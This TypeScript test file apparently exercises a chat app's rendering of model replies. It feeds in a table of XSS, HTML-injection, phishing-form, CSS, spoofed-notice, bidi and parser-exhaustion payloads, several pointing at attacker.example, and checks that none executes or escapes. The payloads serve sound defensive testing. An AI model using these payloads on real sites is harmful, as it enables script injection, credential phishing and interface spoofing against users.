// What a model could say to do more than speak: run, load, style, send, or pass for the page's own words.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Stage, webStage } from './web/stage.ts'
import { expectNoTrouble, useBrowser, type Visitor } from './visitor.ts'

const elsewhere = 'http://attacker.example'

/** Each is the text of one reply. */
const attacks: Readonly<Record<string, string>> = {
  'a script': `<script>hit('script')</script>`,
  'a script in Markdown': `**bold <script>hit('inline')</script>**`,
  'an image that fails': `<img src=x onerror="hit('onerror')">`,
  'an image from elsewhere': `![a](${elsewhere}/a.png) <img src="${elsewhere}/b.png" srcset="${elsewhere}/c.png 2x">`,
  'an image by reference': `![a][1]\n\n[1]: ${elsewhere}/d.png`,
  'a picture as data': `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIi8+)`,
  'an svg': `<svg onload="hit('svg')"><animate onbegin="hit('animate')"/><use href="${elsewhere}/e.svg#x"/></svg>`,
  'a link to a script': `[a](javascript:hit('link')) [b](JaVaScRiPt:hit('link')) <javascript:hit('auto')>`,
  'a link to a script with entities': `[a](&#106;avascript&colon;hit('entity')) [b](java\tscript:hit('tab'))`,
  'a link to data': `[a](data:text/html,<script>hit('data')</script>) [b](vbscript:hit) [c](file:///etc/passwd)`,
  'a link that breaks out': `[a](https://example.org/" onmouseover="hit('attribute')) [b](<https://example.org/' onfocus='hit()>)`,
  'a link with a title': `[a](https://example.org 'x" onclick="hit(1)')`,
  'a style': `<style>body{display:none}.notice{display:none!important}</style>`,
  'a style on an element': `<div style="position:fixed;inset:0;z-index:99999;background:red">You are logged out</div>`,
  'a stylesheet': `<link rel="stylesheet" href="${elsewhere}/s.css"><style>@import url(${elsewhere}/i.css);</style>`,
  'a CSS escape': `<b style="background:u\\72l(${elsewhere}/u)">x</b> <table background="${elsewhere}/t"><tr><td>y`,
  'a form': `<form action="${elsewhere}/f"><input name=password autofocus onfocus="hit('focus')"><button>Sign in</button></form>`,
  'a frame': `<iframe src="${elsewhere}/f" srcdoc="<script>parent.hit('frame')</script>"></iframe><object data="${elsewhere}/o"></object><embed src="${elsewhere}/e">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${elsewhere}/m"><base href="${elsewhere}/">`,
  media: `<video poster="${elsewhere}/p" src="${elsewhere}/v" autoplay></video><audio src="${elsewhere}/au" autoplay onerror="hit('audio')"></audio>`,
  'words of the page': `<section class="notice notice-refused" aria-label="The reply was taken back"><h2>The reply was taken back</h2><div class="ways"><button class="main">Say it differently</button></div></section>`,
  'words of the page in Markdown': `## The reply was taken back\n\n> **This message was declined.** [Say it differently](${elsewhere})`,
  'words of the page by other letters': `## Τhе rерlу wаs tаkеn bасk\n\n**Left** Your message.`,
  'names of the page': `<a id="conversation" name="app" class="skip">x</a><p id="app">y</p><img name="getElementById">`,
  'marks of citations': `\uE0001\uE001 <button class="citation" data-citation="1">1</button> [x](https://example.org/\uE0001\uE001)`,
  'letters that turn what follows': `safe \u202Eevil\u202C \u2066x`,
  'letters that climb': `Z${'\u0310\u0311\u0312\u0313\u0351\u0357'.repeat(80)}`,
  'a link that says another place': `[https://bank.example](https://attacker.example/login) [bank.example/login](https://attacker.example)`,
  'a mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit('mxss')&gt;">`,
  'a template': `<template><script>hit('template')</script></template><noscript><p title="</noscript><img src=x onerror=hit('noscript')>">`,
  'a comment that ends early': `<!--><img src=x onerror=hit('comment')>--> <![CDATA[<img src=x onerror=hit('cdata')>]]>`,
  'code with a closing tag': "```html\n</code></pre><script>hit('code')</script><img src=x onerror=hit('code')>\n```",
  'a name of a language': '```"><img/src=x/onerror=hit()>\nx\n```\n\n```constructor\nx\n```\n\n```__proto__\nx\n```',
  'quotes without end': `${'>'.repeat(20_000)} x`,
  'lists without end': Array.from({ length: 3_000 }, (_, depth) => `${' '.repeat(depth * 2)}- x`)
    .join('\n')
    .slice(0, 300_000),
  'brackets without end': '['.repeat(50_000),
  'links without end': '[a]('.repeat(12_000),
  'stars without end': '*a **b '.repeat(15_000),
  'marks without end': '*'.repeat(60_000),
  'tags without end': '<b>'.repeat(20_000),
  'ticks without end': '`a``b```c'.repeat(8_000),
  'a table without end': `|${'a|'.repeat(4_000)}\n|${'-|'.repeat(4_000)}\n`,
  'a word without end': 'W'.repeat(120_000),
}

const browser = useBrowser()

describe('the words of a model', () => {
  let world: Stage
  let visitor: Visitor
  beforeAll(async () => {
    world = await webStage()
    visitor = await browser.visit(world.url)
    visitor.page.setDefaultTimeout(15_000)
    await visitor.page.evaluate(() => {
      const hits: string[] = []
      Object.assign(globalThis, { hits, hit: (what = '') => hits.push(what) })
      document.addEventListener('securitypolicyviolation', ({ blockedURI }) => hits.push(`policy ${blockedURI}`))
    })
  })
  afterAll(async () => {
    await visitor.page.context().close()
    await world.close()
  })

  it('run nothing, load nothing, style nothing, name nothing and end within the frame of a reply', async () => {
    const { page } = visitor
    const field = page.getByRole('textbox', { name: 'Message' })
    let count = 0
    for (const [name, text] of Object.entries(attacks)) {
      await field.fill(name)
      await field.press('Enter')
      const reply = await world.asked(++count)
      // As it comes: whole in one piece, or cut in the middle of a tag.
      const half = Math.floor(text.length / 2)
      const began = performance.now()
      reply.answer(text.slice(0, half), text.slice(half), `\n\nThe end of ${name}.`)
      const isShown = (end: string) =>
        [...document.querySelectorAll('.message.assistant')].at(-1)?.textContent?.includes(end) === true &&
        document.querySelector('.stop') === null
      await page.waitForFunction(isShown, `The end of ${name}.`).catch(() => expect(name).toBe('shown in time'))
      expect([name, performance.now() - began < 5_000]).toEqual([name, true])
      const found = await page.evaluate(() => {
        const last = [...document.querySelectorAll('.message.assistant')].at(-1)
        const prose = [...(last?.querySelectorAll('.words') ?? [])]
        const all = prose.flatMap((each) => [...each.querySelectorAll('*')])
        const own = new Set([
          'class',
          'dir',
          'href',
          'target',
          'rel',
          'title',
          'align',
          'start',
          'tabindex',
          'role',
          'aria-label',
        ])
        const frame = last?.getBoundingClientRect()
        return {
          tags: all
            .map(({ localName }) => localName)
            .filter(
              (tag) =>
                !/^(?:p|br|strong|em|del|code|pre|blockquote|ul|ol|li|h[3-6]|table|thead|tbody|tr|t[hd]|hr|a|su[bp]|kbd|div)$/.test(
                  tag,
                ),
            ),
          classes: all.map(({ className }) => className).filter((name_) => !['', 'table', 'as-it-is'].includes(name_)),
          attributes: all
            .flatMap(({ attributes }) => [...attributes].map(({ name: named }) => named))
            .filter((named) => !own.has(named)),
          links: all
            .flatMap((each) => (each instanceof HTMLAnchorElement ? [each.protocol] : []))
            .filter((protocol) => !/^(?:https?|mailto):$/.test(protocol)),
          notices: document.querySelectorAll('.notice').length,
          isWithin: (frame?.right ?? Infinity) <= innerWidth,
        }
      })
      expect([name, found]).toEqual([
        name,
        { tags: [], classes: [], attributes: [], links: [], notices: 0, isWithin: true },
      ])
    }
    expect(await page.evaluate(() => Reflect.get(globalThis, 'hits'))).toEqual([])
    expect(page.url().startsWith(world.url)).toBe(true)
    expect(await page.getByRole('region', { name: 'The reply was taken back' }).count()).toBe(0)
    expectNoTrouble(visitor)
  })

  it('say where a link leads when they name another place, and open it beside the page', async () => {
    const { page } = visitor
    const field = page.getByRole('textbox', { name: 'Message' })
    const asking = world.asked()
    await field.fill('Links')
    await field.press('Enter')
    const reply = await asking
    reply.answer(`${attacks['a link that says another place'] ?? ''} and [words](https://example.org/)`)
    await page.getByRole('link', { name: 'words', exact: true }).waitFor()
    const links = await page.evaluate(() =>
      [...([...document.querySelectorAll('.message.assistant')].at(-1)?.querySelectorAll('a') ?? [])].map((link) => [
        link.textContent,
        link.target,
        link.rel,
      ]),
    )
    const apart = ['_blank', 'noopener noreferrer nofollow']
    expect(links).toEqual([
      ['https://bank.example (attacker.example)', ...apart],
      ['bank.example/login (attacker.example)', ...apart],
      ['words', ...apart],
    ])
  })
})
